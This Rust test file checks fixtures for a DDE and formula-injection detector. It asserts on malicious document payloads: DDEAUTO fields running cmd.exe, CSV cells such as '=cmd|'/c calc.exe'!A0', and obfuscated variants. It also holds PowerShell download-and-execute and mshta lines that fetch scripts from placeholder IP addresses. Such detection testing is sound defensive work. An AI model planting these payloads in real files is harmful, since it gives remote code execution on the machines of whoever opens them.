//! Checks what the individual fixtures contain: field instructions, QUOTE
//! codes, Excel parts, text encodings and the hostile samples' shapes.

mod common;

use common::{get, instr_texts, is_encrypted_package, names_of, open, part, part_text, searchable};
use ddesweep_testgen::catalog::{CATALOG, Expect};
use ddesweep_testgen::word;

#[test]
fn every_part_docm_has_a_field_in_each_story() {
    let bytes = get("documents/positive/word-every-part.docm");
    let types = part_text(bytes, "[Content_Types].xml");
    assert!(types.contains("application/vnd.ms-word.document.macroEnabled.main+xml"));
    let rels = part_text(bytes, "word/_rels/document.xml.rels");
    for (name, what) in [
        ("word/document.xml", "body"),
        ("word/header1.xml", "header"),
        ("word/footer1.xml", "footer"),
        ("word/footnotes.xml", "footnote"),
        ("word/endnotes.xml", "endnote"),
        ("word/comments.xml", "comment"),
    ] {
        let instr = instr_texts(&part_text(bytes, name));
        assert_eq!(
            instr,
            [format!("DDEAUTO cmd.exe \"/c echo {what}\"")],
            "{name}"
        );
        if name != "word/document.xml" {
            let target = name.strip_prefix("word/").unwrap();
            assert!(rels.contains(&format!("Target=\"{target}\"")), "{target}");
            assert!(types.contains(&format!("PartName=\"/{name}\"")), "{name}");
        }
    }
    let template = get("documents/positive/word-lowercase.dotm");
    assert!(
        part_text(template, "[Content_Types].xml")
            .contains("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
    );
}

#[test]
fn word_instructions_match_the_spec() {
    let doc = |path| part_text(get(path), "word/document.xml");
    assert_eq!(
        instr_texts(&doc("documents/positive/word-ddeauto-runs.docx")),
        [
            "DDE",
            r"AUTO c:\\windows\\system32\\cmd.exe ",
            r#""/k calc.exe""#
        ]
    );
    assert!(doc("documents/positive/word-dde-fldsimple.docx").contains(
        r#"<w:fldSimple w:instr=" DDE c:\\windows\\system32\\cmd.exe &quot;/c notepad.exe&quot; "/>"#
    ));
    assert_eq!(
        instr_texts(&doc("documents/positive/word-lowercase.dotm")),
        [r#"ddeauto c:\\windows\\system32\\cmd.exe "/c whoami""#]
    );
    let invoice = instr_texts(&doc(
        "sample-evidence/C/Users/alice/Downloads/Invoice_2291.docx",
    ));
    assert!(invoice.len() > 2, "split across runs");
    assert_eq!(
        invoice.concat(),
        r#"DDEAUTO "C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -W Hidden -c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.23/inv.ps1') # " "Invoice.docx""#
    );
    let truncated = String::from_utf8(part(
        get("documents/hostile/truncated-xml.docx"),
        "word/document.xml",
    ))
    .unwrap();
    assert!(truncated.ends_with("<w:p><w:r><w:t xml:spa"));
    assert_eq!(
        instr_texts(&truncated),
        [r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/c truncated""#]
    );
}

#[test]
fn quote_codes_decode_to_the_program() {
    let xml = part_text(
        get("documents/positive/word-quote-nested.docx"),
        "word/document.xml",
    );
    let instr = instr_texts(&xml);
    assert_eq!(instr.len(), 3);
    assert_eq!(instr[0], "DDEAUTO ");
    let codes = instr[1].strip_prefix("QUOTE ").expect("QUOTE field");
    assert_eq!(
        word::decode_quote_codes(codes).as_deref(),
        Some(r"C:\\Windows\\System32\\cmd.exe")
    );
    assert_eq!(instr[2], r#" "/c calc.exe""#);
    assert!(xml.contains(r#"<w:t xml:space="preserve">C:\Windows\System32\cmd.exe</w:t>"#));
}

#[test]
fn excel_fixtures_match_the_spec() {
    let link = get("documents/positive/excel-ddelink.xlsx");
    assert!(part_text(link, "xl/externalLinks/externalLink1.xml").contains(
        r#"<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="_xlbgnm.A1" advise="1"/></ddeItems></ddeLink></externalLink>"#
    ));
    assert!(
        part_text(link, "xl/_rels/workbook.xml.rels").contains("externalLinks/externalLink1.xml")
    );
    assert!(part_text(link, "xl/workbook.xml").contains("<externalReference r:id=\"rId2\"/>"));

    let formula = get("documents/positive/excel-formula.xlsm");
    let names: Vec<String> = names_of(&mut open(formula));
    assert!(!names.iter().any(|n| n.contains("externalLink")));
    assert!(part_text(formula, "xl/worksheets/sheet1.xml").contains(
        r#"<c r="B2"><f>cmd|'/c powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(''http://203.0.113.7/p.ps1'')'!A0</f><v>0</v></c>"#
    ));
    assert!(
        part_text(formula, "[Content_Types].xml")
            .contains("application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    );

    let benign = get("documents/negative/excel-benign.xlsx");
    let sheet = part_text(benign, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("<f>SUM(A1:A3)</f>"));
    assert!(sheet.contains("<f>[1]Sheet1!A1</f>"));
    assert!(sheet.contains(r#"<f>IF(A1&gt;2,"a|b","c")</f>"#));
    assert!(sheet.contains(r#"<c r="D1" t="s"><v>0</v></c>"#));
    assert!(part_text(benign, "xl/sharedStrings.xml").contains("cmd|'/c calc'!A0"));
    assert!(part_text(benign, "xl/externalLinks/externalLink1.xml").contains("<externalBook"));

    let advice = get(
        "sample-evidence/C/Users/alice/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/7XK2LQ0B/Payment_Advice.xlsx",
    );
    assert!(
        part_text(advice, "xl/externalLinks/externalLink1.xml")
            .contains(r#"ddeService="cmd" ddeTopic="/c mshta http://198.51.100.23/pa.hta""#)
    );
}

#[test]
fn hostile_shapes() {
    assert!(get("documents/hostile/empty.docx").is_empty());
    let corrupt = get("documents/hostile/corrupt.docx");
    assert_eq!(corrupt.len(), 4 + 2048);
    assert!(corrupt.starts_with(b"PK\x03\x04"));
    let full = get("documents/positive/word-ddeauto-runs.docx");
    let truncated = get("documents/hostile/truncated.docx");
    assert_eq!(truncated.len(), full.len() * 6 / 10);
    assert!(full.starts_with(truncated));
    let rtf = get("documents/hostile/deep-nesting.rtf");
    assert_eq!(rtf.len(), "{\\rtf1 ".len() + 400_001 + 1);
    let fields = part_text(
        get("documents/hostile/deep-fields.docx"),
        "word/document.xml",
    );
    assert_eq!(fields.matches("w:fldCharType=\"begin\"").count(), 10_000);
    assert_eq!(fields.matches("w:fldCharType=\"end\"").count(), 10_000);
    let invalid = part(
        get("documents/hostile/invalid-utf8.docx"),
        "word/document.xml",
    );
    let needle: &[u8] = b"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc.exe\xFF\xFE\"";
    assert!(invalid.windows(needle.len()).any(|w| w == needle));
    let utf16 = get("documents/hostile/invalid-utf16.csv");
    assert!(utf16.starts_with(b"\xFF\xFE=\0c\0m\0d\0|\0"));
    assert!(utf16.ends_with(b"\x00\xD8x\x00A"));
}

#[test]
fn text_fixtures_match_the_spec() {
    let text = |path| String::from_utf8(get(path).to_vec()).unwrap();
    assert_eq!(
        text("documents/positive/csv-cmd.csv"),
        "name,amount,note\r\nalice,10,=cmd|'/c calc.exe'!A0\r\n"
    );
    let utf16 = get("documents/positive/csv-utf16.csv");
    assert!(utf16.starts_with(b"\xFF\xFE"));
    let units: Vec<u16> = utf16[2..]
        .chunks(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    assert!(
        String::from_utf16(&units)
            .unwrap()
            .contains(",+cmd|'/c notepad.exe'!A1")
    );
    let tsv = get("documents/positive/csv-bom.tsv");
    assert!(tsv.starts_with(b"\xEF\xBB\xBF"));
    assert!(String::from_utf8_lossy(tsv).contains("\t@SUM(1+1)*cmd|'/c calc.exe'!A0\t"));
    assert!(
        text("documents/positive/csv-libreoffice.csv")
            .contains(r#","=DDE(""cmd"";""/c calc.exe"";""__DdeLink_60_3"")""#)
    );
    assert!(text("documents/positive/txt-formula.txt").contains("\t-2+3+cmd|'/c calc.exe'!A0"));
    assert_eq!(
        text("documents/positive/rtf-ddeauto.rtf"),
        r#"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0 Calibri;}}\pard Dear customer,\par{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}{\fldrslt Click}}\par}"#
    );
    let escaped = text("documents/positive/rtf-escaped.rtf");
    assert!(escaped.contains(r"\fldinst \'44\'44\'45AUTO c:\\\\windows"));
    assert!(escaped.contains(r"\fldinst {\u68?}{DE}{\b0 AU}TO c:\\\\windows"));
    let csv = text("documents/negative/csv-benign.csv");
    for cell in [
        ",3.14|2!7,",
        ",=SUM(A1:A2),",
        ",text cmd|'/c calc'!A0,",
        ",@alice,",
        ",-5,",
        ",+44 20 7946 0000,",
    ] {
        assert!(csv.contains(cell), "{cell}");
    }
    assert!(
        text("sample-evidence/C/Users/bob/Desktop/export.csv")
            .contains(r",=MSEXCEL|'\..\..\..\Windows\System32\cmd.exe /c calc.exe'!A0")
    );
    let photo = get("sample-evidence/C/Users/alice/Pictures/photo.jpg");
    assert_eq!(photo.len(), 64);
    assert!(photo.starts_with(&[0xFF, 0xD8, 0xFF, 0xE0]));
}

#[test]
fn expected_commands_appear_in_their_fixtures() {
    for entry in CATALOG {
        let Expect::Commands(commands) = entry.expect else {
            continue;
        };
        if is_encrypted_package(get(entry.path)) {
            continue;
        }
        let text = searchable(get(entry.path));
        for command in commands {
            let at = command.find('/').expect("a switch");
            let snippet: String = command[at..].chars().take(10).collect();
            assert!(text.contains(&snippet), "{}: {snippet}", entry.path);
        }
    }
}

#[test]
fn binary_excel_fixtures_have_their_streams_and_parts() {
    use std::io::Read;
    for path in [
        "documents/positive/excel-legacy.xls",
        "documents/positive/excel-legacy-velvet.xls",
        "documents/negative/excel-legacy-benign.xls",
        "documents/hostile/excel-legacy-bad-records.xls",
    ] {
        let mut file = cfb::CompoundFile::open(std::io::Cursor::new(get(path))).unwrap();
        let mut stream = Vec::new();
        file.open_stream("/Workbook")
            .unwrap()
            .read_to_end(&mut stream)
            .unwrap();
        // BOF of a BIFF8 workbook globals substream.
        assert_eq!(
            stream[..8],
            [0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00],
            "{path}"
        );
        let has = |needle: &[u8]| stream.windows(needle.len()).any(|w| w == needle);
        let velvet = path.ends_with("velvet.xls");
        // The encrypted fixture hides its link; FilePass directly follows BOF.
        let benign = path.contains("/negative/");
        assert_eq!(has(b"cmd\x03/c "), !benign && !velvet, "{path}");
        assert_eq!(stream[20..22] == [0x2F, 0x00], velvet, "{path}");
    }
    let xlsb = get("documents/positive/excel-binary.xlsb");
    let mut zip = open(xlsb);
    let names = names_of(&mut zip);
    for name in [
        "xl/workbook.bin",
        "xl/_rels/workbook.bin.rels",
        "xl/worksheets/sheet1.bin",
        "xl/externalLinks/externalLink1.bin",
    ] {
        assert!(names.iter().any(|n| n == name), "{name}");
    }
    let types = part_text(xlsb, "[Content_Types].xml");
    assert!(types.contains(
        r#"<Override PartName="/xl/externalLinks/externalLink1.bin" ContentType="application/vnd.ms-excel.externalLink"/>"#
    ));
    let rels = part_text(xlsb, "xl/_rels/workbook.bin.rels");
    assert!(rels.contains(r#"Target="externalLinks/externalLink1.bin""#));
    let link = part(xlsb, "xl/externalLinks/externalLink1.bin");
    // BrtBeginSupBook (0x0168 as 0xE8 0x02), size, sbt = DDE, then "cmd" as an XLWideString.
    assert_eq!(
        link[..11],
        [0xE8, 0x02, 0x2C, 0x01, 0x00, 0x03, 0, 0, 0, b'c', 0]
    );
}
